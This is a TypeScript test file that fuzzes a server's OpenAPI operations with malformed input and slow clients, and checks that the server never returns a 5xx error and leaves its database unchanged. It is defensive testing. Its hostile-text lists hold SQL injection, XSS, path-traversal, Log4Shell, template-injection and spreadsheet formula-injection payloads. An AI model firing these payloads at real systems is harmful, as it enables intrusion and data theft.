// Drives every operation of the live OpenAPI document with generated bad input — wrong types,
// missing fields, 100 KB strings, negative and over-precise amounts, bad addresses and hashes,
// RTL/emoji/NUL text, SQL and script fragments, hostile path and query parameters, JSON nested
// 33 to 50,000 levels deep, arrays of 100,000 elements — as the super administrator (service
// routes with a token of every scope). Deterministic (seeded), at least 1,000 requests, no 5xx
// answer, every refusal in the error envelope, and the database unchanged afterwards. A second
// test trickles bodies and headers to a listening server: each is cut, and nothing changes.
//
// Excluded from the database comparison, because reads legitimately change them:
//   sessions.last_seen_at        — a session's last use, refreshed at most once a minute;
//   service_tokens.last_used_at  — a service token's last use;
//   sign_in_failures (whole)     — the sign-in throttle counts failed attempts, which fuzzing login is.
import type { AddressInfo } from 'node:net';
import { sql } from 'drizzle-orm';
import { selectRows } from '../../server/src/db/client';
import { seedDemoData } from '../../server/src/demo/seedDemoData';
import { tick } from '../../server/src/events/clock';
import { MAX_JSON_DEPTH, TOO_DEEP_MESSAGE } from '../../server/src/http/jsonBody';
import { SERVICE_SCOPES } from '../../server/src/serviceTokens/schema';
import { bearer, startTestApi, type TestApi } from '../support/apiServer';
import { statusOf, trickle } from '../support/slowClient';
import { seededRandom } from '../support/seededRandom';

interface JsonSchema {
  type?: string | string[];
  format?: string;
  properties?: Record<string, JsonSchema>;
  required?: string[];
  items?: JsonSchema;
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  enum?: unknown[];
  minimum?: number;
  maximum?: number;
  exclusiveMinimum?: number;
  exclusiveMaximum?: number;
  nullable?: boolean;
}
interface Parameter {
  in: 'path' | 'query' | 'header';
  name: string;
  required?: boolean;
  schema?: JsonSchema;
}
interface Operation {
  parameters?: Parameter[];
  requestBody?: { content: Record<string, { schema: JsonSchema }> };
  'x-service-scope'?: string;
}

const EXCLUDED_TABLES = new Set(['sign_in_failures']);
const EXCLUDED_COLUMNS: Record<string, string[]> = { sessions: ['last_seen_at'], service_tokens: ['last_used_at'] };
/**
 * Operations with no input at all to fuzz, whose call alone acts: signing out would end the fuzzing
 * session, a code request mails a code; and the live stream, which a valid call keeps open (its one
 * input, Last-Event-ID, is refused when malformed in events.test.ts).
 */
const NOT_FUZZED = new Set(['POST /api/auth/logout', 'POST /api/auth/password/code', 'GET /api/events']);

const random = seededRandom(20261123);
const pick = <T>(values: T[]): T => values[Math.floor(random() * values.length)];
/** `count` distinct values, chosen by the seeded generator. */
const sample = <T>(values: T[], count: number): T[] => {
  const pool = [...values];
  const chosen: T[] = [];
  while (chosen.length < count && pool.length) chosen.push(...pool.splice(Math.floor(random() * pool.length), 1));
  return chosen;
};

const HUGE = 'x'.repeat(100 * 1024);
const HOSTILE_TEXT = [
  "' OR '1'='1' --",
  "'; DROP TABLE admins; --",
  '1; SELECT pg_sleep(0)',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '\u202Egnp.exe\u202C',
  'שלום עולם مرحبا',
  '👨‍👩‍👧‍👦🔥💸',
  '../../../../etc/passwd',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the Log4Shell payload, sent as it is
  '${jndi:ldap://example.com/a}',
  '{{7*7}}',
  '%00%27',
  '\uFEFF\u200B',
  "=cmd|' /C calc'!A0",
];
const NUL_TEXT = ['a\u0000b', '\u0000'];
// Signed amounts (a points delta) may be negative; every other amount may not.
const BAD_AMOUNTS = [
  '0.0000000000000000000000001',
  '1e5',
  'NaN',
  'Infinity',
  '9'.repeat(400),
  '1,5',
  '0x10',
  '١٢٣',
  '1.2.3',
  '+-1',
];
const NEGATIVE_AMOUNTS = ['-1', '-0.00000001'];
const BAD_ADDRESSES = [
  'bc1qinvalid',
  `bc1p${'q'.repeat(58)}`,
  `0x${'g'.repeat(40)}`,
  '0x1234',
  'tb1pxyz',
  "bc1p' OR 1=1",
];
const BAD_HASHES = ['0x', `0x${'z'.repeat(64)}`, 'f'.repeat(63), 'f'.repeat(65), `0x${'F'.repeat(64)} `, "' OR 1=1 --"];
const BAD_NUMBERS: unknown[] = [-1, 0, 1.5, 1e20, Number.MAX_SAFE_INTEGER + 2, -1e308, '12abc'];
const WRONG_TYPES: unknown[] = [null, true, [], {}, ['x'], { $ne: null }];
const BAD_PATH_VALUES = [
  '-1',
  '0',
  'abc',
  '1.5',
  '99999999999999999999',
  '9'.repeat(400),
  "1' OR '1'='1",
  '%00',
  '%E2%80%AE1',
  '1e30',
  HUGE.slice(0, 2000),
];
const BAD_QUERY_VALUES = [
  ...HOSTILE_TEXT,
  '-1',
  '0',
  '1.5',
  '99999999999999999999',
  '9'.repeat(400),
  '1e30',
  'NaN',
  '',
  'true',
  HUGE.slice(0, 4000),
  '2025-13-45',
  'ascend;DROP',
];

// Bodies too costly to walk, drawn from a generator of their own so the other requests stay the same.
const randomHostile = seededRandom(20261125);
const pickHostile = <T>(values: T[]): T => values[Math.floor(randomHostile() * values.length)];
const DEEP_LEVELS = [MAX_JSON_DEPTH + 1, 300, 2_000, 10_000, 50_000];
const deepJson = (depth: number) =>
  randomHostile() < 0.5 ? `${'['.repeat(depth)}${']'.repeat(depth)}` : `${'{"a":'.repeat(depth)}0${'}'.repeat(depth)}`;
const HUGE_ARRAY_LENGTH = 100_000;
const HUGE_ARRAYS = [0, 'x', null, {}, [], true].map((element) =>
  JSON.stringify(Array.from({ length: HUGE_ARRAY_LENGTH }, () => element)),
);
/** Stands for a raw JSON value spliced into an otherwise plausible body. */
const RAW_VALUE = '__raw_value_from_fuzz__';

const TAPROOT = 'bc1p2ulx7uyz2rt3me6vznmfc65n46ptmkerqq2l3702a7gcztsvaqcq0dyk36';
const NONEXISTENT_ID = '999999';

type Kind = 'address' | 'hash' | 'amount' | 'text' | 'number' | 'boolean' | 'array' | 'object' | 'enum' | 'date';

function kindOf(name: string, schema: JsonSchema): Kind {
  if (schema.enum) return 'enum';
  const type = Array.isArray(schema.type) ? schema.type.find((entry) => entry !== 'null') : schema.type;
  if (type === 'integer' || type === 'number') return 'number';
  if (type === 'boolean') return 'boolean';
  if (type === 'array') return 'array';
  if (type === 'object' || schema.properties) return 'object';
  if (schema.format === 'date-time' || /At$|^from$|^to$/.test(name)) return 'date';
  if (/address|contract|btcAccount/i.test(name)) return 'address';
  if (/hash|signature/i.test(name)) return 'hash';
  if (/amount|delta|price|berries|cr$|^mcr$|^ccr$|collateral|debt|yuIn|claimable|compensation/i.test(name))
    return 'amount';
  return 'text';
}

/** A plausible value of this property, so that only the one mutated field is wrong. */
function plausible(name: string, schema: JsonSchema): unknown {
  const branch = schema.anyOf?.[0] ?? schema.oneOf?.[0];
  if (branch) return plausible(name, branch);
  switch (kindOf(name, schema)) {
    case 'enum':
      return schema.enum?.[0];
    case 'number':
      return Math.max(1, schema.minimum ?? 1);
    case 'boolean':
      return true;
    case 'array':
      return [];
    case 'object':
      return plausibleObject(schema);
    case 'date':
      return '2025-03-01T08:00:00.000Z';
    case 'address':
      return TAPROOT;
    case 'hash':
      return 'a'.repeat(64);
    case 'amount':
      return '1';
    default:
      if (/url|link/i.test(name)) return 'https://example.com/fuzz';
      if (/email/i.test(name)) return 'fuzz@example.com';
      if (/password/i.test(name)) return 'fuzz password 123';
      return 'fuzz';
  }
}
function plausibleObject(schema: JsonSchema): Record<string, unknown> {
  const branch = schema.anyOf?.[0] ?? schema.oneOf?.[0];
  if (branch) return plausibleObject(branch);
  return Object.fromEntries(
    Object.entries(schema.properties ?? {}).map(([name, property]) => [name, plausible(name, property)]),
  );
}

/** Values that must be refused in this property. */
/** Whether a number satisfies the schema's type and bounds (so it is not a bad value for it). */
function isWithin(value: unknown, schema: JsonSchema): boolean {
  if (typeof value !== 'number') return false;
  const type = Array.isArray(schema.type) ? schema.type.find((entry) => entry !== 'null') : schema.type;
  if (type === 'integer' && !Number.isSafeInteger(value)) return false;
  if (schema.minimum !== undefined && value < schema.minimum) return false;
  if (schema.maximum !== undefined && value > schema.maximum) return false;
  if (schema.exclusiveMinimum !== undefined && value <= schema.exclusiveMinimum) return false;
  if (schema.exclusiveMaximum !== undefined && value >= schema.exclusiveMaximum) return false;
  return true;
}

function badValues(name: string, schema: JsonSchema): unknown[] {
  const kind = kindOf(name, schema);
  const typeWrong = kind === 'number' || kind === 'boolean' ? ['not a number', HUGE] : [12345, -1.5];
  const specific: Record<Kind, unknown[]> = {
    address: BAD_ADDRESSES,
    hash: BAD_HASHES,
    amount: name === 'delta' ? BAD_AMOUNTS : [...BAD_AMOUNTS, ...NEGATIVE_AMOUNTS],
    // Out of the schema's own range, or not an integer where one is asked for: 0 is fine where the minimum is 0.
    number: BAD_NUMBERS.filter((value) => !isWithin(value, schema)),
    enum: ['NOT_A_MEMBER', "' OR 1=1 --", HUGE],
    date: ['2025-13-45T99:00:00Z', 'yesterday', '-1', HUGE],
    text: [HUGE],
    boolean: ['yes'],
    array: ['x', [null], [HUGE]],
    object: ['x', []],
  };
  const allowsNull =
    (Array.isArray(schema.type) && schema.type.includes('null')) ||
    Boolean(schema.anyOf?.some((branch) => branch.type === 'null')) ||
    schema.nullable === true;
  // null where the field is nullable and [] for a list are legitimate values, not bad ones.
  const wrongTypes = WRONG_TYPES.slice(0, 3).filter(
    (value) =>
      !(value === null && allowsNull) &&
      !(Array.isArray(value) && kind === 'array') &&
      !(typeof value === 'boolean' && kind === 'boolean'),
  );
  return [...wrongTypes, ...sample([...typeWrong, ...specific[kind]], 4), pick(NUL_TEXT)];
}

interface FuzzRequest {
  method: string;
  url: string;
  payload?: unknown;
  /** JSON text sent as it is, for bodies JSON.stringify cannot produce. */
  raw?: string;
  /** Nested past MAX_JSON_DEPTH: must be refused as such before the route sees it. */
  tooDeep?: boolean;
  token: string;
  what: string;
}

let api: TestApi;
let rootToken: string;
let serviceToken: string;

async function databaseFingerprint(): Promise<Record<string, string>> {
  const tables = await selectRows<{ name: string }>(
    api.db,
    sql`SELECT table_name AS name FROM information_schema.tables WHERE table_schema = current_schema() AND table_type = 'BASE TABLE' ORDER BY table_name`,
  );
  const fingerprint: Record<string, string> = {};
  for (const { name } of tables) {
    if (EXCLUDED_TABLES.has(name)) continue;
    const dropped = (EXCLUDED_COLUMNS[name] ?? []).map((column) => ` - '${column}'`).join('');
    const [row] = await selectRows<{ count: string; digest: string }>(
      api.db,
      sql.raw(
        `SELECT count(*)::text AS count, md5(coalesce(string_agg(line, '|' ORDER BY line), '')) AS digest FROM (SELECT (to_jsonb(t)${dropped})::text AS line FROM "${name}" t) rows`,
      ),
    );
    fingerprint[name] = `${row.count} ${row.digest}`;
  }
  return fingerprint;
}

beforeAll(async () => {
  // Short request and header timeouts, for the slow clients; injected requests never meet them.
  api = await startTestApi({ REQUEST_TIMEOUT_SECONDS: '1', HEADERS_TIMEOUT_SECONDS: '1' });
  await seedDemoData(api.db);
  rootToken = await api.signIn();
  serviceToken = await api.serviceToken(SERVICE_SCOPES, rootToken, 'fuzz every scope');
}, 120_000);
afterAll(() => api.close());

function buildRequests(document: { paths: Record<string, Record<string, Operation>> }): FuzzRequest[] {
  const requests: FuzzRequest[] = [];
  for (const [openApiPath, methods] of Object.entries(document.paths)) {
    for (const [lowerMethod, operation] of Object.entries(methods)) {
      const method = lowerMethod.toUpperCase();
      const name = `${method} ${openApiPath}`;
      if (NOT_FUZZED.has(name)) continue;
      const token = operation['x-service-scope'] ? serviceToken : rootToken;
      const pathParameters = (operation.parameters ?? []).filter((parameter) => parameter.in === 'path');
      const queryParameters = (operation.parameters ?? []).filter((parameter) => parameter.in === 'query');
      const bodySchema = operation.requestBody?.content['application/json']?.schema;
      // Paths go to a record that does not exist (or a valid enum or address), so a request that got deep changes nothing.
      const basePathValue = (parameter: Parameter) =>
        parameter.schema?.enum
          ? String(parameter.schema.enum[0])
          : parameter.name === 'address'
            ? TAPROOT
            : NONEXISTENT_ID;
      const pathWith = (override?: { name: string; value: string }) =>
        openApiPath.replace(/\{(\w+)\}/g, (_match, parameterName: string) => {
          if (override?.name === parameterName) return override.value;
          const parameter = pathParameters.find((entry) => entry.name === parameterName);
          return parameter ? encodeURIComponent(basePathValue(parameter)) : NONEXISTENT_ID;
        });
      const reachesNothing = pathParameters.some((parameter) => basePathValue(parameter) === NONEXISTENT_ID);
      const baseBody = bodySchema ? plausibleObject(bodySchema) : undefined;
      const add = (url: string, payload: unknown, what: string) =>
        requests.push({ method, url, payload: method === 'GET' ? undefined : payload, token, what: `${name} ${what}` });

      for (const parameter of pathParameters) {
        for (const value of sample(BAD_PATH_VALUES, 6))
          add(
            pathWith({ name: parameter.name, value: value.startsWith('%') ? value : encodeURIComponent(value) }),
            baseBody,
            `path ${parameter.name}=${value.slice(0, 20)}`,
          );
      }
      for (const parameter of queryParameters) {
        for (const value of sample(BAD_QUERY_VALUES, 6))
          add(
            `${pathWith()}?${parameter.name}=${encodeURIComponent(value)}`,
            baseBody,
            `query ${parameter.name}=${value.slice(0, 20)}`,
          );
        add(`${pathWith()}?${parameter.name}=a&${parameter.name}=b`, baseBody, `query ${parameter.name} twice`);
      }
      // An unknown query parameter is ignored, so it is only sent where nothing can be created.
      if (method === 'GET' || reachesNothing)
        add(
          `${pathWith()}?unknownParameter=${encodeURIComponent(pick(HOSTILE_TEXT))}`,
          baseBody,
          'unknown query parameter',
        );
      if (!bodySchema || !baseBody) continue;

      const addRaw = (raw: string, what: string, tooDeep = false) =>
        requests.push({ method, url: pathWith(), raw, tooDeep, token, what: `${name} ${what}` });
      const withRawField = (property: string, raw: string) =>
        JSON.stringify({ ...baseBody, [property]: RAW_VALUE }).replace(`"${RAW_VALUE}"`, raw);
      const bodyProperties = Object.keys(bodySchema.properties ?? {});
      const wholeDepth = pickHostile(DEEP_LEVELS);
      addRaw(deepJson(wholeDepth), `body nested ${wholeDepth} deep`, true);
      addRaw(pickHostile(HUGE_ARRAYS), `body of ${HUGE_ARRAY_LENGTH} elements`);
      if (bodyProperties.length) {
        const deepProperty = pickHostile(bodyProperties);
        const fieldDepth = pickHostile(DEEP_LEVELS);
        addRaw(withRawField(deepProperty, deepJson(fieldDepth)), `${deepProperty} nested ${fieldDepth} deep`, true);
        const arrayProperty = pickHostile(bodyProperties);
        addRaw(
          withRawField(arrayProperty, pickHostile(HUGE_ARRAYS)),
          `${arrayProperty} of ${HUGE_ARRAY_LENGTH} elements`,
        );
      }

      for (const whole of [null, [], 'a string', 42, true]) add(pathWith(), whole, `body ${JSON.stringify(whole)}`);
      add(pathWith(), { ...baseBody, unknownFieldFromFuzz: pick(HOSTILE_TEXT) }, 'unknown field');
      for (const [property, schema] of Object.entries(bodySchema.properties ?? {})) {
        for (const value of badValues(property, schema))
          add(pathWith(), { ...baseBody, [property]: value }, `${property}=${JSON.stringify(value)?.slice(0, 30)}`);
        if (bodySchema.required?.includes(property)) {
          const { [property]: _missing, ...rest } = baseBody;
          add(pathWith(), rest, `missing ${property}`);
        }
        if (kindOf(property, schema) === 'text') {
          for (const text of sample(HOSTILE_TEXT, 3)) {
            // Hostile but storable text goes deep only where the record does not exist; elsewhere
            // another field is wrong, so a create cannot happen.
            const other = Object.keys(baseBody).find((key) => key !== property);
            const payload =
              reachesNothing || !other
                ? { ...baseBody, [property]: text }
                : { ...baseBody, [property]: text, [other]: pick(WRONG_TYPES.slice(0, 2)) };
            if (!reachesNothing && !other) continue;
            add(pathWith(), payload, `${property}=${text.slice(0, 20)}`);
          }
        }
      }
    }
  }
  return requests;
}

function parsedOrNull(body: string): unknown {
  try {
    return JSON.parse(body);
  } catch {
    return null;
  }
}

/** The `{ success: false, errorCode, errorMessage }` shape the panel's request layer reads. */
function isErrorEnvelope(body: unknown): boolean {
  const envelope = body as { success?: unknown; errorCode?: unknown; errorMessage?: unknown } | null;
  return (
    envelope?.success === false && typeof envelope.errorCode === 'string' && typeof envelope.errorMessage === 'string'
  );
}

// An ingestion route answers 200 for a batch and refuses bad rows one by one: nothing stored, each row reported.
function refusedEveryRow(body: unknown): boolean {
  type Report = { accepted?: unknown; rejected?: unknown[] };
  const report = (body as { data?: Report } | null)?.data;
  return report?.accepted === 0 && Array.isArray(report.rejected) && report.rejected.length > 0;
}

describe('fuzzing every operation', () => {
  it('answers every bad request without a 5xx and leaves the database as it was', async () => {
    const document = (await api.app.inject({ method: 'GET', url: '/api/openapi.json' })).json();
    // What time alone announces (a passed cooling time) is written now, not by the clock mid-run.
    await tick(api.db);
    const before = await databaseFingerprint();
    const requests = buildRequests(document);
    const serverErrors: string[] = [];
    const accepted: string[] = [];
    const outsideEnvelope: string[] = [];
    const deepNotRefused: string[] = [];
    const statusCounts: Record<string, number> = {};
    for (const request of requests) {
      const payload = request.raw ?? (request.payload === undefined ? undefined : JSON.stringify(request.payload));
      const response = await api.app.inject({
        method: request.method as 'POST',
        url: request.url,
        headers: { ...bearer(request.token), ...(payload === undefined ? {} : { 'content-type': 'application/json' }) },
        payload,
      });
      statusCounts[response.statusCode] = (statusCounts[response.statusCode] ?? 0) + 1;
      const answer = parsedOrNull(response.body);
      if (response.statusCode >= 500)
        serverErrors.push(`${request.what}: ${response.statusCode} ${response.body.slice(0, 200)}`);
      else if (request.method !== 'GET' && response.statusCode < 300 && !refusedEveryRow(answer))
        accepted.push(`${request.what}: ${response.statusCode}`);
      if (response.statusCode >= 400 && !isErrorEnvelope(answer))
        outsideEnvelope.push(`${request.what}: ${response.statusCode} ${response.body.slice(0, 200)}`);
      if (
        request.tooDeep &&
        !(
          response.statusCode === 400 && (answer as { errorMessage?: string } | null)?.errorMessage === TOO_DEEP_MESSAGE
        )
      ) {
        deepNotRefused.push(`${request.what}: ${response.statusCode} ${response.body.slice(0, 200)}`);
      }
    }
    console.log(
      `fuzz: ${requests.length} requests over ${Object.keys(document.paths).length} paths; answers by status ${JSON.stringify(statusCounts)}`,
    );
    expect(requests.length).toBeGreaterThanOrEqual(1000);
    expect(serverErrors).toEqual([]);
    expect(accepted).toEqual([]);
    expect(outsideEnvelope).toEqual([]);
    expect(deepNotRefused).toEqual([]);
    expect(await databaseFingerprint()).toEqual(before);
  }, 900_000);
});

describe('slow clients against operations that write', () => {
  it('cuts every request trickled or stalled mid-way, keeps answering others, and leaves the database as it was', async () => {
    await api.app.listen({ host: '127.0.0.1', port: 0 });
    const port = (api.app.server.address() as AddressInfo).port;
    const document = (await api.app.inject({ method: 'GET', url: '/api/openapi.json' })).json() as {
      paths: Record<string, Record<string, Operation>>;
    };
    const before = await databaseFingerprint();
    const withBodies = Object.entries(document.paths).flatMap(([openApiPath, methods]) =>
      Object.entries(methods).flatMap(([method, operation]) => {
        const schema = operation.requestBody?.content['application/json']?.schema;
        const name = `${method.toUpperCase()} ${openApiPath}`;
        return schema && !NOT_FUZZED.has(name)
          ? [{ name, method: method.toUpperCase(), openApiPath, operation, schema }]
          : [];
      }),
    );
    const step = Math.max(1, Math.floor(withBodies.length / 12));
    const chosen = withBodies.filter((_entry, index) => index % step === 0).slice(0, 12);
    const clients = chosen.map(({ name, method, openApiPath, operation, schema }, index) => {
      const body = JSON.stringify(plausibleObject(schema));
      const token = operation['x-service-scope'] ? serviceToken : rootToken;
      const head = `${method} ${openApiPath.replace(/\{\w+\}/g, NONEXISTENT_ID)} HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer ${token}\r\nContent-Type: application/json\r\nContent-Length: ${Buffer.byteLength(body)}\r\n\r\n`;
      const request = `${head}${body}`;
      // Three ways to hold a connection: the body a byte at a time, everything a byte at a time, the body all but its last byte.
      const way = (['body trickled', 'headers trickled', 'body stalled'] as const)[index % 3];
      const sendFirst = way === 'body trickled' ? head.length : way === 'headers trickled' ? 0 : request.length - 1;
      return trickle(port, request, {
        sendFirst,
        intervalMs: way === 'body stalled' ? 60_000 : 250,
        giveUpAfterMs: 8_000,
      }).then((outcome) => ({ what: `${name} ${way}`, ...outcome }));
    });
    let ordinaryStatus: number | undefined;
    try {
      ordinaryStatus = (await fetch(`http://127.0.0.1:${port}/api/auth/me`, { headers: bearer(rootToken) })).status;
    } finally {
      await Promise.all(clients);
    }
    expect(ordinaryStatus).toBe(200);
    const outcomes = await Promise.all(clients);
    const notCut = outcomes.filter(
      (outcome) =>
        outcome.endedBy !== 'server' ||
        outcome.elapsedMs > 5000 ||
        outcome.sent >= outcome.total ||
        ![408, null].includes(statusOf(outcome.answer)),
    );
    expect(outcomes).toHaveLength(12);
    expect(
      notCut.map(({ what, sent, total, elapsedMs, endedBy, answer }) => ({
        what,
        sent,
        total,
        elapsedMs,
        endedBy,
        answer: answer.slice(0, 40),
      })),
    ).toEqual([]);
    expect(await databaseFingerprint()).toEqual(before);
  });
});
